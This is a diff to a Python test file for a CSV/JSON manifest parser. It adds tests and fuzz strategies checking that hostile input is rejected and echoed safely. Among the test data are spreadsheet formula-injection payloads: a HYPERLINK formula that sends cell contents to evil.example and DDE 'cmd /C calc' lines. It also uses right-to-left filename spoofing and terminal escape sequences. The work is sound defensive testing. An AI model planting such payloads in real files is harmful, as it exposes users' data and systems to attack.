@@ -6,10 +6,11 @@ Everything here is checked on bytes; reading and writing S3 is tests/unit/test_b
 from __future__ import annotations
 
 import json
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from aistudios_export.errors import ManifestInvalid, readable_cause
@@ -212,16 +213,6 @@ def test_many_rejections_are_summarised_in_the_message() -> None:
         parse("projectId\n" + "x\n" * 7)
 
 
-@given(st.binary(max_size=300))
-def test_any_bytes_give_a_manifest_or_manifest_invalid(data: bytes) -> None:
-    for key in ("m.csv", "m.json"):
-        try:
-            manifest = parse_manifest(data, key, defaults=DEFAULTS)
-        except ManifestInvalid:
-            continue
-        assert manifest.items and all(is_export_id(i["name"]) for i in manifest.items)
-
-
 def test_readable_cause() -> None:
     lambda_cause = json.dumps({"errorMessage": "it broke", "errorType": "X", "stackTrace": []})
     assert readable_cause(lambda_cause) == "it broke"
@@ -229,3 +220,277 @@ def test_readable_cause() -> None:
     assert readable_cause('["json", "list"]') == '["json", "list"]'
     assert readable_cause(None) is None
     assert readable_cause("") is None
+
+
+# --- hostile manifests -------------------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet may take for a formula at the start of a cell (OWASP, CSV injection)."""
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def strings(value: Any) -> Iterator[str]:
+    """Every string in a JSON value: keys and values, however deep."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for key, item in value.items():
+            yield key
+            yield from strings(item)
+    elif isinstance(value, list):
+        for item in value:
+            yield from strings(item)
+
+
+def assert_safe_to_show(value: Any, longest: int = 1000) -> None:
+    """No string starts a formula, is long, or holds what a terminal or UTF-8 cannot show."""
+    for text in strings(value):
+        assert not text.startswith(FORMULA_STARTS), text
+        assert text.isprintable(), text
+        assert len(text) <= longest, text[:100]
+        text.encode()
+
+
+def test_formula_cells_are_never_echoed_as_formulas() -> None:
+    columns = "projectId,resolution,workspaceId,outputPrefix"
+    cells = [f'"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS]
+    lines = [f"{c},{c},{c},{c}" for c in cells]
+    lines += [f"{P1},{c},{c},{c}" for c in cells]
+    manifest = parse("\n".join([columns, f"{P1},720", *lines]) + "\n")
+    assert len(manifest.items) == 1
+    rejected = [r.to_dict() for r in manifest.rejected]
+    assert len(rejected) == 2 * len(FORMULAS)
+    assert_safe_to_show(rejected)
+    assert rejected[0]["projectId"] == """'=HYPERLINK("http://evil.example/?x="&A1,"click")"""
+    assert rejected[2]["projectId"] == "'-2+3"
+    body = [{"projectId": f, f: f, "workspaceId": f} for f in FORMULAS] + [{"projectId": P1}]
+    from_json = [r.to_dict() for r in parse(json.dumps(body), key="m.json").rejected]
+    assert_safe_to_show(from_json)
+    assert [r["projectId"] for r in from_json[4:]] == ["\\t=1+1", "\\r=1+1"]
+
+
+@pytest.mark.parametrize(
+    ("data", "key", "message"),
+    [
+        (b"[" * 100_000 + b"]" * 100_000, "m.json", "manifest m.json is nested too deeply"),
+        (
+            b'[{"projectId": ' * 5_000 + b"1" + b"}]" * 5_000,
+            "m.json",
+            "manifest m.json is nested too deeply",
+        ),
+        # A lone surrogate, encoded: no UTF-8 decoder accepts it.
+        (
+            b"projectId\n\xed\xa0\x80\n",
+            "m.csv",
+            "manifest m.csv is not UTF-8 text: byte 0xed at offset 10 cannot be decoded",
+        ),
+        (
+            b"\xff" + b"[]",
+            "m.json",
+            "manifest m.json is not UTF-8 text: byte 0xff at offset 0 cannot be decoded",
+        ),
+        (
+            f'projectId\n{P1}\n"{"A" * 200_000}"\n'.encode(),
+            "m.csv",
+            "manifest m.csv is not valid CSV at line 3: field larger than field limit (131072)",
+        ),
+        (b"[1, 2]", "m.json", "manifest m.json has no valid row: row 1: the request must be"),
+    ],
+)
+def test_hostile_manifests_fail_as_a_whole_clearly(data: bytes, key: str, message: str) -> None:
+    with pytest.raises(ManifestInvalid) as raised:
+        parse_manifest(data, key, defaults=DEFAULTS)
+    assert str(raised.value).startswith(message)
+    assert len(str(raised.value)) < 1000
+
+
+def test_a_long_or_odd_header_is_quoted_short_and_escaped() -> None:
+    for header, shown in [
+        ("projectId," + "x" * 10_000, "'" + "x" * 40 + "...'"),
+        ("projectId,a\x00b", "'a\\x00b'"),
+        ("projectId,\u202egnp.exe", "'\\u202egnp.exe'"),
+    ]:
+        with pytest.raises(ManifestInvalid) as raised:
+            parse(header + "\n")
+        assert str(raised.value) == (
+            f"manifest manifests/m.csv has unknown column(s) {shown}; the columns may be "
+            "projectId,resolution,workspaceId,outputPrefix"
+        )
+    with pytest.raises(ManifestInvalid) as raised:
+        parse("\x1b[2J" + "y" * 10_000 + "\n")
+    assert str(raised.value).endswith("but it is '\\x1b[2J" + "y" * 33 + "...'")
+
+
+def test_a_huge_integer_is_a_bad_field_of_its_row() -> None:
+    huge = "9" * 5_000
+    text = f'[{{"projectId": "{P1}", "pollSeconds": {huge}}}, {{"projectId": "{P2}"}}, -{huge}]'
+    manifest = parse(text, key="m.json")
+    assert [i["input"]["projectId"] for i in manifest.items] == [P2]
+    assert [r.to_dict() for r in manifest.rejected] == [
+        {
+            "row": 1,
+            "projectId": P1,
+            "error": "invalid request: pollSeconds: must be a whole number of seconds from 0 to "
+            "900",
+        },
+        {"row": 3, "error": "the request must be a JSON object"},
+    ]
+
+
+def test_nul_bytes_and_lone_surrogates_are_bad_fields_shown_escaped() -> None:
+    csv_manifest = parse(f"projectId,workspaceId\n{P1},a\x00b\nab\x00cd\n{P2}\n")
+    assert [r.to_dict() for r in csv_manifest.rejected] == [
+        {
+            "row": 1,
+            "projectId": P1,
+            "error": "invalid request: workspaceId: must be letters, digits, _ or -, 1-64",
+        },
+        {
+            "row": 2,
+            "projectId": "ab\\x00cd",
+            "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
+        },
+    ]
+    text = (
+        f'[{{"projectId": "\\ud800x"}}, {{"projectId": "{P1}", "\\udfff\\u0000": 1}},'
+        f' {{"projectId": "{P2}", "workspaceId": "\\ud800"}}, {{"projectId": "{P3}"}}]'
+    )
+    json_manifest = parse(text, key="m.json")
+    assert [r.to_dict() for r in json_manifest.rejected] == [
+        {
+            "row": 1,
+            "projectId": "\\ud800x",
+            "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
+        },
+        {"row": 2, "projectId": P1, "error": "invalid request: unknown field(s): \\udfff\\x00"},
+        {
+            "row": 3,
+            "projectId": P2,
+            "error": "invalid request: workspaceId: must be letters, digits, _ or -, 1-64",
+        },
+    ]
+    assert_safe_to_show([r.to_dict() for r in json_manifest.rejected])
+
+
+def test_a_rows_error_quotes_only_a_short_excerpt_of_its_fields() -> None:
+    many = {f"field{i}": 1 for i in range(100)}
+    body = [
+        {"projectId": P1, "k" * 100_000: 1},
+        {"projectId": P2, **many},
+        {"projectId": P3, "\x00" * 100_000: 1},
+        {"projectId": P3},
+    ]
+    [long_key, many_keys, odd_key] = parse(json.dumps(body), key="m.json").rejected
+    assert long_key.error == f"invalid request: unknown field(s): {'k' * 40}..."
+    # The excerpt's bound counts the escaped text.
+    assert odd_key.error == f"invalid request: unknown field(s): {'\\x00' * 10}..."
+    assert many_keys.error == (
+        "invalid request: unknown field(s): field0, field1, field10, field11, field12 and 95 more"
+    )
+
+
+def test_a_too_long_project_id_is_not_echoed() -> None:
+    [rejection] = parse(f"projectId\n{P1}\n{'=' * 65}\n").rejected
+    assert rejection.to_dict() == {
+        "row": 2,
+        "error": "invalid request: projectId: must be a 24-character hexadecimal ObjectId",
+    }
+
+
+@pytest.mark.parametrize("key", ["m.csv", "m.json"])
+def test_a_50_mb_or_100_000_row_manifest_is_refused_naming_the_limit(key: str) -> None:
+    with pytest.raises(ManifestInvalid) as raised:
+        parse(b"x" * (50 * 1024 * 1024), key=key)
+    assert str(raised.value) == (
+        f"manifest {key} is 52428800 bytes; at most {MAX_MANIFEST_BYTES} are allowed "
+        "(split it into several files)"
+    )
+    rows = (
+        "projectId\n" + "".join(f"{i:024x}\n" for i in range(100_000))
+        if key == "m.csv"
+        else json.dumps([{"projectId": f"{i:024x}"} for i in range(100_000)])
+    )
+    assert len(rows) <= MAX_MANIFEST_BYTES
+    with pytest.raises(ManifestInvalid) as raised:
+        parse(rows, key=key)
+    assert str(raised.value) == (
+        f"manifest {key} has more than {MAX_ROWS} rows (split it into several files)"
+    )
+
+
+# Text made of what manifests are made of, and of what breaks parsers.
+CSV_ALPHABET = st.sampled_from(
+    [
+        *(",", '"', "\n", "\r", "\t", " ", "\x00", "=", "+", "-", "@", "\ufeff", "\u202e", "é"),
+        *("projectId", "resolution", "workspaceId", "outputPrefix", P1, "720", "4k", "team-a/"),
+    ]
+)
+JSON_SCALARS = (
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(max_size=30)
+    | st.sampled_from([P1, "720", "4k", "=1+1", "\ud800", "9" * 5000])
+)
+JSON_KEYS = st.sampled_from(sorted(["projectId", "resolution", "pollSeconds", "webhookUrl"])) | (
+    st.text(max_size=10)
+)
+JSON_VALUES = st.recursive(
+    JSON_SCALARS,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(JSON_KEYS, inner, max_size=5),
+    max_leaves=20,
+)
+JSON_TOKENS = st.sampled_from(
+    [
+        *("[", "]", "{", "}", ",", ":", '"', "\\", "\\ud800", "\\u0000", "1", "9" * 5000, "-"),
+        *("e9", "1e999", "NaN", "Infinity", "null", "true", '"projectId"', f'"{P1}"', " ", "\n"),
+    ]
+)
+
+
+def assert_manifest_or_invalid(data: bytes, key: str) -> None:
+    """Any bytes give a manifest of valid, named rows, or ManifestInvalid; never another error."""
+    try:
+        manifest = parse_manifest(data, key, defaults=DEFAULTS)
+    except ManifestInvalid as e:
+        # It quotes at most five rows' errors.
+        assert_safe_to_show(str(e), longest=5000)
+        return
+    assert manifest.items and all(is_export_id(i["name"]) for i in manifest.items)
+    assert_safe_to_show([r.to_dict() for r in manifest.rejected])
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=500))
+def test_any_bytes_give_a_manifest_or_manifest_invalid(data: bytes) -> None:
+    for key in ("m.csv", "m.json"):
+        assert_manifest_or_invalid(data, key)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(CSV_ALPHABET, max_size=60))
+def test_any_csv_ish_text_is_a_manifest_or_manifest_invalid(parts: list[str]) -> None:
+    text = "projectId,resolution\n" + "".join(parts)
+    assert_manifest_or_invalid(text.encode("utf-8", "surrogatepass"), "m.csv")
+
+
+@settings(max_examples=200, deadline=None)
+@given(JSON_VALUES)
+def test_any_json_value_is_a_manifest_or_manifest_invalid(value: Any) -> None:
+    assert_manifest_or_invalid(json.dumps(value).encode(), "m.json")
+    rows = value if isinstance(value, list) else [value]
+    assert_manifest_or_invalid(json.dumps([{"projectId": P1}, *rows]).encode(), "m.json")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(JSON_TOKENS, max_size=40))
+def test_any_json_ish_text_is_a_manifest_or_manifest_invalid(tokens: list[str]) -> None:
+    assert_manifest_or_invalid("".join(tokens).encode(), "m.json")
